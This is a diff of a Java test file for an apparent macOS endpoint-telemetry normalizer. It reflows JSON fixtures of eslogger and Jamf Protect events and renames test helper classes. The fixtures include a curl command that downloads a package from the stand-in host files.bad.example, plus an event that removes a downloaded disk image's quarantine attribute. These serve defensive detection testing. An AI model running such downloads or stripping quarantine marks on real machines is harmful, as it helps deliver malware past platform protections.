@@ -5,8 +5,8 @@ import static org.assertj.core.api.Assertions.assertThat;
 import io.clicktrail.event.Event;
 import io.clicktrail.event.EventKind;
 import io.clicktrail.event.MarkAction;
-import io.clicktrail.normalizer.Facts;
-import io.clicktrail.normalizer.Reader;
+import io.clicktrail.normalizer.parse.EventFacts;
+import io.clicktrail.normalizer.parse.TestNormalizer;
 import io.clicktrail.normalizer.raw.Reason;
 import java.util.List;
 import java.util.stream.Stream;
@@ -18,42 +18,96 @@ class EndpointSecurityTest {
 
     private record Story(String name, String message, String expected) {}
 
-    private static final String HOST =
-            "\"host\":{\"name\":\"mac-3.corp.example\",\"hostname\":\"mac-3.corp.example\",\"domain\":\"corp.example\",\"os\":{\"type\":\"macos\"}}";
+    private static final String HOST = "\"host\":{\"name\":\"mac-3.corp.example\",\"hostname\":\"mac-3.corp.example\","
+            + "\"domain\":\"corp.example\",\"os\":{\"type\":\"macos\"}}";
 
     private static final List<Story> STORIES = List.of(
             new Story("exec", EndpointSecurityFixtures.EXEC, """
-                    {"@timestamp":"2026-03-02T10:00:05.701234Z","event":{"action":"process_start","code":"exec","dataset":"macos.eslogger"},%s,"user":{"id":"501"},"process":{"entity_id":"mac-3.corp.example:951:2202","pid":951,"start":"2026-03-02T10:00:05.701234Z","executable":"/usr/bin/curl","name":"curl","command_line":"curl -o \\"/Users/ada/Downloads/my report.pkg\\" https://files.bad.example/a","working_directory":"/Users/ada","parent":{"entity_id":"mac-3.corp.example:700:1999","pid":700,"executable":"/bin/zsh"},"responsible":{"entity_id":"mac-3.corp.example:650:1800","pid":650},"code_signature":{"signing_id":"com.apple.curl"}}}"""),
+                    {"@timestamp":"2026-03-02T10:00:05.701234Z","event":{"action":"process_start","code":"exec",\
+                    "dataset":"macos.eslogger"},%s,"user":{"id":"501"},\
+                    "process":{"entity_id":"mac-3.corp.example:951:2202","pid":951,\
+                    "start":"2026-03-02T10:00:05.701234Z","executable":"/usr/bin/curl","name":"curl",\
+                    "command_line":"curl -o \\"/Users/ada/Downloads/my report.pkg\\" https://files.bad.example/a",\
+                    "working_directory":"/Users/ada","parent":{"entity_id":"mac-3.corp.example:700:1999","pid":700,\
+                    "executable":"/bin/zsh"},"responsible":{"entity_id":"mac-3.corp.example:650:1800","pid":650},\
+                    "code_signature":{"signing_id":"com.apple.curl"}}}"""),
             new Story("create", EndpointSecurityFixtures.CREATE, """
-                    {"@timestamp":"2026-03-02T10:00:05.801234Z","event":{"action":"file_write","code":"create","dataset":"macos.eslogger"},%s,"user":{"id":"501"},"process":{"entity_id":"mac-3.corp.example:913:2101","pid":913,"executable":"/Applications/Firefox.app/Contents/MacOS/firefox","name":"firefox","parent":{"entity_id":"mac-3.corp.example:1:1","pid":1},"responsible":{"entity_id":"mac-3.corp.example:913:2101","pid":913},"code_signature":{"signing_id":"org.mozilla.firefox","team_id":"43AQ936H96"}},"file":{"path":"/Users/ada/Downloads/Invoice.dmg.part","name":"Invoice.dmg.part","extension":"part"}}"""),
+                    {"@timestamp":"2026-03-02T10:00:05.801234Z","event":{"action":"file_write","code":"create",\
+                    "dataset":"macos.eslogger"},%s,"user":{"id":"501"},\
+                    "process":{"entity_id":"mac-3.corp.example:913:2101","pid":913,\
+                    "executable":"/Applications/Firefox.app/Contents/MacOS/firefox","name":"firefox",\
+                    "parent":{"entity_id":"mac-3.corp.example:1:1","pid":1},\
+                    "responsible":{"entity_id":"mac-3.corp.example:913:2101","pid":913},\
+                    "code_signature":{"signing_id":"org.mozilla.firefox","team_id":"43AQ936H96"}},\
+                    "file":{"path":"/Users/ada/Downloads/Invoice.dmg.part","name":"Invoice.dmg.part",\
+                    "extension":"part"}}"""),
             new Story("rename", EndpointSecurityFixtures.RENAME, """
-                    {"@timestamp":"2026-03-02T10:00:05.801234Z","event":{"action":"file_write","code":"rename","dataset":"macos.eslogger"},%s,"user":{"id":"501"},"process":{"entity_id":"mac-3.corp.example:913:2101","pid":913,"executable":"/Applications/Firefox.app/Contents/MacOS/firefox","name":"firefox","parent":{"entity_id":"mac-3.corp.example:1:1","pid":1},"responsible":{"entity_id":"mac-3.corp.example:913:2101","pid":913},"code_signature":{"signing_id":"org.mozilla.firefox","team_id":"43AQ936H96"}},"file":{"path":"/Users/ada/Downloads/Invoice.dmg","name":"Invoice.dmg","extension":"dmg","original_path":"/Users/ada/Downloads/Invoice.dmg.part"}}"""),
+                    {"@timestamp":"2026-03-02T10:00:05.801234Z","event":{"action":"file_write","code":"rename",\
+                    "dataset":"macos.eslogger"},%s,"user":{"id":"501"},\
+                    "process":{"entity_id":"mac-3.corp.example:913:2101","pid":913,\
+                    "executable":"/Applications/Firefox.app/Contents/MacOS/firefox","name":"firefox",\
+                    "parent":{"entity_id":"mac-3.corp.example:1:1","pid":1},\
+                    "responsible":{"entity_id":"mac-3.corp.example:913:2101","pid":913},\
+                    "code_signature":{"signing_id":"org.mozilla.firefox","team_id":"43AQ936H96"}},\
+                    "file":{"path":"/Users/ada/Downloads/Invoice.dmg","name":"Invoice.dmg","extension":"dmg",\
+                    "original_path":"/Users/ada/Downloads/Invoice.dmg.part"}}"""),
             new Story("close", EndpointSecurityFixtures.CLOSE, """
-                    {"@timestamp":"2026-03-02T10:00:05.801234Z","event":{"action":"file_write","code":"close","dataset":"macos.eslogger"},%s,"user":{"id":"501"},"process":{"entity_id":"mac-3.corp.example:913:2101","pid":913,"executable":"/Applications/Firefox.app/Contents/MacOS/firefox","name":"firefox","parent":{"entity_id":"mac-3.corp.example:1:1","pid":1},"responsible":{"entity_id":"mac-3.corp.example:913:2101","pid":913},"code_signature":{"signing_id":"org.mozilla.firefox","team_id":"43AQ936H96"}},"file":{"path":"/Users/ada/Downloads/Invoice.dmg","name":"Invoice.dmg","extension":"dmg"}}"""),
+                    {"@timestamp":"2026-03-02T10:00:05.801234Z","event":{"action":"file_write","code":"close",\
+                    "dataset":"macos.eslogger"},%s,"user":{"id":"501"},\
+                    "process":{"entity_id":"mac-3.corp.example:913:2101","pid":913,\
+                    "executable":"/Applications/Firefox.app/Contents/MacOS/firefox","name":"firefox",\
+                    "parent":{"entity_id":"mac-3.corp.example:1:1","pid":1},\
+                    "responsible":{"entity_id":"mac-3.corp.example:913:2101","pid":913},\
+                    "code_signature":{"signing_id":"org.mozilla.firefox","team_id":"43AQ936H96"}},\
+                    "file":{"path":"/Users/ada/Downloads/Invoice.dmg","name":"Invoice.dmg","extension":"dmg"}}"""),
             new Story("setextattr", EndpointSecurityFixtures.SET_QUARANTINE, """
-                    {"@timestamp":"2026-03-02T10:00:05.801234Z","event":{"action":"file_mark","code":"setextattr","dataset":"macos.eslogger"},%s,"user":{"id":"501"},"process":{"entity_id":"mac-3.corp.example:913:2101","pid":913,"executable":"/Applications/Firefox.app/Contents/MacOS/firefox","name":"firefox","parent":{"entity_id":"mac-3.corp.example:1:1","pid":1},"responsible":{"entity_id":"mac-3.corp.example:913:2101","pid":913},"code_signature":{"signing_id":"org.mozilla.firefox","team_id":"43AQ936H96"}},"file":{"path":"/Users/ada/Downloads/Invoice.dmg","name":"Invoice.dmg","extension":"dmg","mark":"set"}}"""),
+                    {"@timestamp":"2026-03-02T10:00:05.801234Z","event":{"action":"file_mark","code":"setextattr",\
+                    "dataset":"macos.eslogger"},%s,"user":{"id":"501"},\
+                    "process":{"entity_id":"mac-3.corp.example:913:2101","pid":913,\
+                    "executable":"/Applications/Firefox.app/Contents/MacOS/firefox","name":"firefox",\
+                    "parent":{"entity_id":"mac-3.corp.example:1:1","pid":1},\
+                    "responsible":{"entity_id":"mac-3.corp.example:913:2101","pid":913},\
+                    "code_signature":{"signing_id":"org.mozilla.firefox","team_id":"43AQ936H96"}},\
+                    "file":{"path":"/Users/ada/Downloads/Invoice.dmg","name":"Invoice.dmg","extension":"dmg",\
+                    "mark":"set"}}"""),
             new Story("deleteextattr", EndpointSecurityFixtures.DELETE_QUARANTINE, """
-                    {"@timestamp":"2026-03-02T10:00:05.801234Z","event":{"action":"file_mark","code":"deleteextattr","dataset":"macos.eslogger"},%s,"user":{"id":"501"},"process":{"entity_id":"mac-3.corp.example:913:2101","pid":913,"executable":"/Applications/Firefox.app/Contents/MacOS/firefox","name":"firefox","parent":{"entity_id":"mac-3.corp.example:1:1","pid":1},"responsible":{"entity_id":"mac-3.corp.example:913:2101","pid":913},"code_signature":{"signing_id":"org.mozilla.firefox","team_id":"43AQ936H96"}},"file":{"path":"/Users/ada/Downloads/Invoice.dmg","name":"Invoice.dmg","extension":"dmg","mark":"removed"}}"""));
+                    {"@timestamp":"2026-03-02T10:00:05.801234Z","event":{"action":"file_mark","code":"deleteextattr",\
+                    "dataset":"macos.eslogger"},%s,"user":{"id":"501"},\
+                    "process":{"entity_id":"mac-3.corp.example:913:2101","pid":913,\
+                    "executable":"/Applications/Firefox.app/Contents/MacOS/firefox","name":"firefox",\
+                    "parent":{"entity_id":"mac-3.corp.example:1:1","pid":1},\
+                    "responsible":{"entity_id":"mac-3.corp.example:913:2101","pid":913},\
+                    "code_signature":{"signing_id":"org.mozilla.firefox","team_id":"43AQ936H96"}},\
+                    "file":{"path":"/Users/ada/Downloads/Invoice.dmg","name":"Invoice.dmg","extension":"dmg",\
+                    "mark":"removed"}}"""));
 
-    private final Reader reader = new Reader();
+    private final TestNormalizer reader = new TestNormalizer();
 
     @TestFactory
     Stream<DynamicTest> readsEveryMessageWithTokensOfBothShapes() {
         return STORIES.stream()
                 .map(story -> DynamicTest.dynamicTest(story.name(), () -> {
                     String shipped = EndpointSecurityFixtures.shipped(story.message());
-                    assertThat(Facts.of(reader.event(shipped)))
+                    assertThat(EventFacts.of(reader.event(shipped)))
                             .isEqualTo(story.expected().formatted(HOST));
-                    assertThat(Facts.of(reader.event(EndpointSecurityFixtures.withArrays(shipped))))
+                    assertThat(EventFacts.of(reader.event(EndpointSecurityFixtures.withArrays(shipped))))
                             .isEqualTo(story.expected().formatted(HOST));
                 }));
     }
 
     @Test
     void readsJamfProtectsTelemetryWithItsHostAndItsIdentities() {
-        assertThat(Facts.of(reader.event(EndpointSecurityFixtures.jamf(EndpointSecurityFixtures.EXEC))))
+        assertThat(EventFacts.of(reader.event(EndpointSecurityFixtures.jamf(EndpointSecurityFixtures.EXEC))))
                 .isEqualTo("""
-                {"@timestamp":"2026-03-02T10:00:05.701234Z","event":{"action":"process_start","code":"exec","dataset":"macos.jamf-protect"},"host":{"name":"mac-3.corp.example","hostname":"mac-3.corp.example","domain":"corp.example","id":"C02X","ip":["10.1.2.33"],"os":{"type":"macos"}},"user":{"id":"501"},"process":{"entity_id":"U-951-2202","pid":951,"start":"2026-03-02T10:00:05.701234Z","executable":"/usr/bin/curl","name":"curl","command_line":"curl -o \\"/Users/ada/Downloads/my report.pkg\\" https://files.bad.example/a","working_directory":"/Users/ada","parent":{"entity_id":"U-700-1999","pid":700,"executable":"/bin/zsh"},"responsible":{"entity_id":"U-650-1800","pid":650},"code_signature":{"signing_id":"com.apple.curl"}}}""");
+                {"@timestamp":"2026-03-02T10:00:05.701234Z","event":{"action":"process_start","code":"exec",\
+                "dataset":"macos.jamf-protect"},"host":{"name":"mac-3.corp.example","hostname":"mac-3.corp.example",\
+                "domain":"corp.example","id":"C02X","ip":["10.1.2.33"],"os":{"type":"macos"}},"user":{"id":"501"},\
+                "process":{"entity_id":"U-951-2202","pid":951,"start":"2026-03-02T10:00:05.701234Z",\
+                "executable":"/usr/bin/curl","name":"curl","command_line":"curl -o \\"/Users/ada/Downloads/my \
+                report.pkg\\" https://files.bad.example/a","working_directory":"/Users/ada",\
+                "parent":{"entity_id":"U-700-1999","pid":700,"executable":"/bin/zsh"},\
+                "responsible":{"entity_id":"U-650-1800","pid":650},"code_signature":{"signing_id":"com.apple.curl"}}}\
+                """);
     }
 
     @Test
@@ -75,7 +129,8 @@ class EndpointSecurityTest {
     void readsACreatedFileThatWasThereBefore() {
         String message = EndpointSecurityFixtures.message(
                 907,
-                "\"create\":{\"destination_type\":0,\"destination\":{\"existing_file\":{\"path\":\"/private/tmp/a\"}}}");
+                "\"create\":{\"destination_type\":0,\"destination\":{\"existing_file\":{\"path\":\"/private"
+                        + "/tmp/a\"}}}");
 
         assertThat(reader.event(message).getFile().getPath()).isEqualTo("/private/tmp/a");
     }
@@ -95,10 +150,10 @@ class EndpointSecurityTest {
     void readsAChangeOfModeAndClones() {
         Event mode = reader.event(EndpointSecurityFixtures.message(
                 909, "\"setmode\":{\"mode\":493,\"target\":{\"path\":\"/Users/ada/a.sh\"}}"));
-        Event clone = reader.event(
-                EndpointSecurityFixtures.message(
-                        910,
-                        "\"clone\":{\"source\":{\"path\":\"/Volumes/I/I.app\"},\"target_dir\":{\"path\":\"/Applications\"},\"target_name\":\"I.app\"}"));
+        Event clone = reader.event(EndpointSecurityFixtures.message(
+                910,
+                "\"clone\":{\"source\":{\"path\":\"/Volumes/I/I.app\"},"
+                        + "\"target_dir\":{\"path\":\"/Applications\"},\"target_name\":\"I.app\"}"));
 
         assertThat(mode.getKind()).isEqualTo(EventKind.FILE_MODE);
         assertThat(mode.getFile().getMode()).isEqualTo("0755");
@@ -110,10 +165,10 @@ class EndpointSecurityTest {
     void readsLogons() {
         Event window = reader.event(EndpointSecurityFixtures.message(
                 911, "\"lw_session_login\":{\"username\":\"ada\",\"graphical_session_id\":257}"));
-        Event ssh = reader.event(
-                EndpointSecurityFixtures.message(
-                        912,
-                        "\"openssh_login\":{\"success\":true,\"username\":\"ada\",\"source_address\":\"10.1.2.17\",\"source_address_type\":1}"));
+        Event ssh = reader.event(EndpointSecurityFixtures.message(
+                912,
+                "\"openssh_login\":{\"success\":true,\"username\":\"ada\","
+                        + "\"source_address\":\"10.1.2.17\",\"source_address_type\":1}"));
 
         assertThat(window.getLogon().getType()).isEqualTo(2);
         assertThat(window.getUser().getName()).isEqualTo("ada");
